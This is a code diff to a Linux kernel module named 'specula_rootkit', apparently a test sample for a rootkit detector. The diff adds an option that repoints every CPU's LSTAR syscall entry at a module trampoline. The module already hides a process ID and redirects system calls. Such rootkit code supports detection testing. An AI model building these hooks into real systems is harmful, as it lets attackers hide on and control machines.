@@ -17,7 +17,11 @@
  *    BHI backport), where the table is no longer used, also rewrites the direct
  *    call or tail jump to `handler` (the system call's `__x64_sys_*` function) inside
  *    `x64_sys_call` to call its own hook instead, so that the call is redirected
- *    for real.
+ *    for real;
+ *  - with `hook_lstar=1`, points every CPU's LSTAR (where `syscall` enters the
+ *    kernel) at a trampoline in this module that jumps on to the real entry, so
+ *    that it sees every system call first. Refused under page-table isolation,
+ *    whose user page tables do not map module text.
  *
  * It takes no locks it cannot reach (tasklist_lock and module_mutex are not
  * exported): the test guest is idle while it loads. It cannot be unloaded.
@@ -28,6 +32,8 @@
 #include <linux/sched.h>
 #include <linux/sched/task.h>
 #include <linux/vmalloc.h>
+#include <asm/cpufeature.h>
+#include <asm/msr.h>
 
 static int hide_pid;
 module_param(hide_pid, int, 0);
@@ -48,6 +54,26 @@ MODULE_PARM_DESC(handler, "address of the system call's __x64_sys_* function");
 static int syscall_nr = -1;
 module_param(syscall_nr, int, 0);
 MODULE_PARM_DESC(syscall_nr, "system call to redirect (-1: none)");
+
+static bool hook_lstar;
+module_param(hook_lstar, bool, 0);
+MODULE_PARM_DESC(hook_lstar, "send every CPU's syscall entry (LSTAR) through this module");
+
+/* The entry the trampoline jumps on to (read from LSTAR before the hook). */
+static unsigned long original_lstar __used;
+
+/*
+ * Entered by `syscall` in ring 0 on the user's stack and GS base, before the
+ * kernel has switched either: it touches neither and jumps on.
+ */
+asm(".pushsection .text, \"ax\"\n"
+    ".globl specula_lstar_hook\n"
+    ".type specula_lstar_hook, @function\n"
+    "specula_lstar_hook:\n"
+    "\tjmp *original_lstar(%rip)\n"
+    ".size specula_lstar_hook, . - specula_lstar_hook\n"
+    ".popsection\n");
+void specula_lstar_hook(void);
 
 typedef long (*syscall_fn_t)(const struct pt_regs *);
 static syscall_fn_t original;
@@ -127,6 +153,20 @@ static int redirect_syscall(void)
 	return 0;
 }
 
+static void set_lstar(void *unused)
+{
+	wrmsrl(MSR_LSTAR, (unsigned long)specula_lstar_hook);
+}
+
+static int hook_syscall_entry(void)
+{
+	if (boot_cpu_has(X86_FEATURE_PTI))
+		return -EOPNOTSUPP;
+	rdmsrl(MSR_LSTAR, original_lstar);
+	on_each_cpu(set_lstar, NULL, 1);
+	return 0;
+}
+
 static int __init specula_rootkit_init(void)
 {
 	int err;
@@ -145,6 +185,11 @@ static int __init specula_rootkit_init(void)
 	}
 	if (dispatch_address && handler_address) {
 		err = redirect_dispatch();
+		if (err)
+			return err;
+	}
+	if (hook_lstar) {
+		err = hook_syscall_entry();
 		if (err)
 			return err;
 	}
